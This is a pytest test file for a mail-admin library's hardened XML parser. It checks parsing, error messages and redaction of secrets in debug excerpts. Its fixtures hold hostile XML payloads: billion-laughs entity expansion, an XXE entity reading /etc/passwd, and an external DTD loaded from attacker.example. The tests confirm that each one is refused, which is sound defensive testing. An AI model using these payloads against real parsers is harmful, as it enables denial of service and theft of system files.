"""Safe XML parsing: platform answers are parsed, hostile or broken XML is refused."""

from __future__ import annotations

import pytest

from mailadmin.contract import errors
from mailadmin.wire.redaction import Redactor
from mailadmin.wire.safexml import parse_xml

SOAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">
  <soap:Body>
    <CountAccountResponse xmlns="urn:zimbraAdmin">
      <cos name="default" id="e00428a1">12</cos>
    </CountAccountResponse>
  </soap:Body>
</soap:Envelope>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">
<foo/>"""

PLAIN_DTD = b"""<?xml version="1.0"?><!DOCTYPE foo><foo>1</foo>"""


def test_a_soap_answer_parses_into_an_element_tree() -> None:
    root = parse_xml(SOAP)
    cos = root.find(".//{urn:zimbraAdmin}cos")
    assert cos is not None
    assert (cos.get("name"), cos.text) == ("default", "12")


def test_text_with_an_encoding_declaration_parses_too() -> None:
    assert parse_xml(SOAP.decode()).tag == "{http://www.w3.org/2003/05/soap-envelope}Envelope"


@pytest.mark.parametrize(
    "hostile",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PLAIN_DTD],
    ids=["billion-laughs", "xxe-file", "external-dtd", "dtd"],
)
def test_hostile_xml_is_refused(hostile: bytes) -> None:
    with pytest.raises(errors.ProtocolError) as caught:
        parse_xml(hostile, source="zextras-eu")
    message = str(caught.value)
    assert message == (
        "zextras-eu sent XML containing a document type declaration, which is refused for safety"
    )
    assert "DTDForbidden" in caught.value.debug["reason"]
    assert "root:" not in repr(caught.value.debug)  # nothing of /etc/passwd was read


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"<a><b></a>", "mismatched tag"),
        (b"", "no element found"),
        (b"not xml at all", "syntax error"),
        (b"<a>\xff\xfe</a>", "not well-formed"),
    ],
)
def test_malformed_xml_is_a_protocol_error(content: bytes, reason: str) -> None:
    with pytest.raises(errors.ProtocolError) as caught:
        parse_xml(content)
    assert str(caught.value) == "the platform sent an answer that is not well-formed XML"
    assert reason in caught.value.debug["reason"]


def test_the_excerpt_in_debug_is_redacted_and_short() -> None:
    broken = b"<AuthResponse><authToken>0_abc123</authToken>" + b"<x/>" * 500
    with pytest.raises(errors.ProtocolError) as caught:
        parse_xml(broken)
    excerpt = caught.value.debug["excerpt"]
    assert "0_abc123" not in excerpt
    assert "<authToken>***</authToken>" in excerpt
    assert len(excerpt) <= 500


def test_a_custom_redactor_cleans_the_excerpt() -> None:
    with pytest.raises(errors.ProtocolError) as caught:
        parse_xml(b"<a>hunter2", redact=lambda text: text.replace("hunter2", "***"))
    assert caught.value.debug["excerpt"] == "<a>***"


def test_a_secret_at_the_cut_is_redacted_whole() -> None:
    # The cut falls inside a known secret in free text: masking the cut text would no
    # longer recognise the secret and leak its first ten characters.
    secret = "hunter2hunter2"
    head = "<a>" + "x" * 481 + "note: "  # 490 characters: the cut leaves "hunter2hun"
    with pytest.raises(errors.ProtocolError) as caught:
        parse_xml((head + secret + " <b>").encode(), redact=Redactor([secret]).redact)
    excerpt = caught.value.debug["excerpt"]
    assert "hunter" not in excerpt
    assert excerpt == head + "*** <b>"
